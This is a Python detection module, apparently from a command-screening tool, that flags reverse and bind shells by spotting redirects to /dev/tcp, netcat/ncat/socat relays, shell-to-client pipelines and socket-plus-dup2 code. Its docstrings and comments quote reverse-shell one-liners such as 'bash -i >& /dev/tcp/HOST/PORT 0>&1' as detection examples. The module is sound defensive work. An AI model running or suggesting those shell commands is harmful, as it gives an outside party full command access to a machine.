"""A shell handed to the network: reverse and bind shells, in every channel (net.reverse-shell).

Whoever is at the other end of the connection runs any command on this machine, as this user, and no hook
sees those commands — so the one command that opens it is judged by what it hands out, not by what it names.
Four shapes, read from ``knowledge/remote_shells.toml``:

- a shell or interpreter whose input or output is redirected to bash's network pseudo-files
  (``bash -i >& /dev/tcp/HOST/PORT 0>&1``); any other program writing there sends its output (not a device);
- a relay that runs a program on its socket (``nc -e /bin/sh``, ``ncat --sh-exec``, ``socat TCP:… EXEC:sh``);
- a pipeline in which a shell reads its commands from a network client's output (``… | sh -i | nc HOST PORT``);
- a program in any language that opens a connection and hands it to a shell or a pseudo-terminal (socket +
  ``dup2``/``pty.spawn``/``exec "/bin/sh"``).
"""

from __future__ import annotations

import re

from ... import knowledge

RULE = "net.reverse-shell"

#: programs that are shells or interpreters reading commands (a shell with no script operand reads stdin)
INTERPRETERS = _INTERPRETERS = frozenset({"bash", "sh", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "yash", "posh",
                           "rbash", "busybox", "python", "python3", "python2", "perl", "ruby", "php", "node", "lua",
                           "pwsh", "powershell", "irb", "tclsh", "expect", "awk", "gawk", "mawk", "nawk", "deno", "bun",
                           "luajit", "jruby", "pypy", "pypy3"})


#: words before the program that run it in place or under another name
_PREFIXES = frozenset({"exec", "command", "builtin", "nohup", "sudo", "doas", "env", "setsid", "stdbuf", "timeout",
                       "nice", "ionice", "script", "unbuffer"})


class _Model:
    def __init__(self, raw):
        def strs(key):
            v = raw[key]
            if not isinstance(v, list) or not all(isinstance(x, str) for x in v):
                raise ValueError(f"{key} must be a list of strings")
            return v

        self.devices = tuple(strs("network_devices"))
        self.relays = frozenset(strs("relays"))
        self.relay_options = frozenset(strs("relay_options"))
        self.clients = frozenset(strs("clients"))
        self.socat_exec = frozenset(x.lower() for x in strs("socat_exec"))
        self.socat_network = frozenset(x.lower() for x in strs("socat_network"))
        self.connect = re.compile("|".join(f"(?:{p})" for p in strs("code_connect")))
        self.spawn = re.compile("|".join(f"(?:{p})" for p in strs("code_spawn")))


def model():
    return knowledge.model("remote_shells.toml", _Model)


def _base(word: str) -> str:
    return word.rsplit("/", 1)[-1] if word else ""


def is_network_device(target: str) -> bool:
    """``/dev/tcp/HOST/PORT``, ``/dev/udp/…``: bash opens a connection; nothing is written to a device."""
    return bool(target) and target.startswith(("/dev/tcp/", "/dev/udp/"))


def _emit(a, cmd, how, peer=None):
    a.emit(RULE, cmd, target=peer or "a network peer", effect="remote-shell", note=how)


def _dup_descriptor(cmd) -> bool:
    """``sh <&5 >&5``: the command's statement copies a descriptor above 2 onto its input or output (the walk keeps
    no such pair among the redirects it judges as files, so it is read from the tree)."""
    node = getattr(cmd, "node", None)
    stmt = getattr(node, "parent", None)
    while stmt is not None and stmt.type == "list":  # `exec 7<… && bash <&7`: the grammar hangs it on the list
        stmt = stmt.parent
    if stmt is None or stmt.type != "redirected_statement":
        return False
    for r in stmt.children:
        if r.type != "file_redirect":
            continue
        ops = {c.type for c in r.children}
        dest = r.child_by_field_name("destination")
        text = dest.text.decode("utf-8", "replace") if dest is not None and dest.text else ""
        if ops & {"<&", ">&"} and text.isdigit() and int(text) > 2:
            return True
    return False


def redirect(a, cmd, reds) -> set:
    """Redirections of ``cmd`` to or from bash's network pseudo-files: a shell or an interpreter so connected is
    a shell for the peer.  Returns the targets handled (the caller does not judge them as files)."""
    try:
        m = model()
        devices = m.devices
    except knowledge.KnowledgeError:
        devices = ("/dev/tcp/", "/dev/udp/")
    handled = {t for _, t in reds if isinstance(t, str) and t.startswith(devices)}
    argv = list(cmd.argv or ())
    while argv and _base(argv[0]) in _PREFIXES:  # `exec bash -i &>/dev/tcp/…`, `nohup sh -i >…`
        argv = argv[1:]
        while argv and (argv[0].startswith("-") or "=" in argv[0] or argv[0].isdigit()):
            argv = argv[1:]
    shell = bool(argv) and _base(argv[0]) in _INTERPRETERS
    if handled and not shell:
        a.net_fds = True  # `exec 5<>/dev/tcp/H/P`: a descriptor of this shell is now a connection
    if handled and shell:
        peer = sorted(handled)[0]
        _emit(a, cmd, f"its input or output is the connection {peer}: whoever is there types its commands", peer)
    elif shell and getattr(a, "net_fds", False) and (any(
            op in ("<&", ">&", "<") and isinstance(t, str) and t.isdigit() and int(t) > 2 for op, t in reds)
            or _dup_descriptor(cmd)):
        # `exec 5<>/dev/tcp/H/P; sh <&5 >&5`: the shell reads from the descriptor the connection was opened on
        _emit(a, cmd, "it reads its commands from a descriptor opened on a network connection earlier in the line")
    return handled


def relay(a, cmd) -> bool:
    """``nc -e PROG``, ``ncat --sh-exec CMD``, ``nc -c bash``: the program runs with the socket as its terminal."""
    try:
        m = model()
    except knowledge.KnowledgeError as e:
        a.emit("interlock.error", cmd, target=cmd.name, effect="unknown", note=str(e))
        return True
    for i, x in enumerate(cmd.args):
        opt = x.split("=", 1)[0]
        if opt in m.relay_options or (len(x) > 2 and x[0] == "-" and x[1] != "-" and
                                      any(f"-{c}" in m.relay_options for c in x[1:].replace("=", ""))
                                      and not x[1:].isdigit()):
            prog = x.split("=", 1)[1] if "=" in x else (cmd.args[i + 1] if i + 1 < len(cmd.args) else "")
            _emit(a, cmd, f"'{opt}' runs {prog or 'a program'} with the connection as its terminal")
            return True
    return False


def socat(a, cmd) -> bool:
    """socat joining a program (EXEC:, SYSTEM:) to a network address (TCP:, OPENSSL-LISTEN:, …)."""
    try:
        m = model()
    except knowledge.KnowledgeError as e:
        a.emit("interlock.error", cmd, target="socat", effect="unknown", note=str(e))
        return True
    kinds = []
    for x in cmd.args:
        if x.startswith("-") and ":" not in x:
            continue
        k = re.split(r"[:,]", x.lstrip("-"), maxsplit=1)[0].lower()
        kinds.append((k, x))
    prog = next((x for k, x in kinds if k in m.socat_exec), None)
    net = next((x for k, x in kinds if k in m.socat_network), None)
    if prog and net:
        _emit(a, cmd, f"'{prog[:60]}' runs with the connection '{net[:60]}' as its terminal", net.split(",")[0])
        return True
    return False


def pipeline(a, cmd_lists, node_cmd) -> bool:
    """A pipeline with a network client and a shell (or interpreter) that reads its commands from stdin:
    ``cat f | sh -i | nc HOST PORT > f``, ``openssl s_client -connect H:P | bash``.  ``cmd_lists`` are the
    stages' words as written."""
    try:
        m = model()
    except knowledge.KnowledgeError as e:  # fail closed: the shapes could not be read
        a.emit("interlock.error", node_cmd, target="pipeline", effect="unknown", note=str(e))
        return True
    client = shell = None
    flat = []  # tree-sitter nests `a | b 2>&1 | c` as ((a | b) 2>&1) | c: one list of stages
    for words in cmd_lists:
        cur = []
        for x in words:
            if x in ("|", "|&", "&&", "||", ";"):
                flat.append(cur)
                cur = []
            else:
                cur.append(x)
        flat.append(cur)
    for words in flat:
        w = [x for x in words if not re.match(r"^\w+=", x)]
        while w and _base(w[0]) in _PREFIXES:
            w = w[1:]
            while w and (w[0].startswith("-") or w[0].isdigit()):
                w = w[1:]
        if not w:
            continue
        b = _base(w[0])
        if b in m.clients and (b != "openssl" or any(x in ("s_client", "s_server") for x in w[1:3])):
            client = client or w
        elif b in _INTERPRETERS and _reads_commands(b, w[1:]):
            shell = shell or w
    if client and shell:
        _emit(a, node_cmd, f"'{' '.join(shell)[:40]}' reads its commands from what '{' '.join(client)[:60]}' "
                           f"receives")
        return True
    return False


def _reads_commands(base, args) -> bool:
    """A shell or interpreter that reads its program from stdin: no script or `-c`/`-e` code (`sh`, `bash -i`,
    `sh -s`, `python3 -i`, `python3 -`)."""
    if base == "busybox":
        return bool(args) and args[0] in ("sh", "ash") and _reads_commands("sh", args[1:])
    ops = []
    skip = False
    for x in args:
        if skip:
            skip = False
            continue
        if re.match(r"^(?:\d*(?:<|>|>>|<>|<&|>&)|&>|&>>)$", x):
            skip = True  # `sh -i < /tmp/q`: a redirection and its file
            continue
        if re.match(r"^\d*[<>]", x) or re.match(r"^&>", x):
            continue  # a redirection written in the stage (`sh -i 2>&1`)
        if x in ("-c", "-e", "-E", "-r", "--command", "-m"):
            return False
        if x.startswith("-") and x != "-":
            if x.startswith("--"):
                continue
            if "c" in x[1:] and base in ("bash", "sh", "zsh", "dash", "ksh", "mksh", "ash"):
                return False
            continue
        ops.append(x)
    return not ops or ops[0] == "-"


def code(a, language, text, cmd) -> bool:
    """A program that opens a connection and hands it to a shell or a pseudo-terminal."""
    if not text or len(text) > 200_000:
        return False
    try:
        m = model()
    except knowledge.KnowledgeError as e:  # fail closed: the shapes could not be read
        a.emit("interlock.error", cmd, target=language, effect="unknown", note=str(e))
        return True
    c = m.connect.search(text)
    s = m.spawn.search(text) if c else None
    if c and s:
        _emit(a, cmd, f"the {language} code opens a connection ({c.group(0)[:40]}) and hands it to "
                      f"{s.group(0)[:40]}")
        return True
    return False
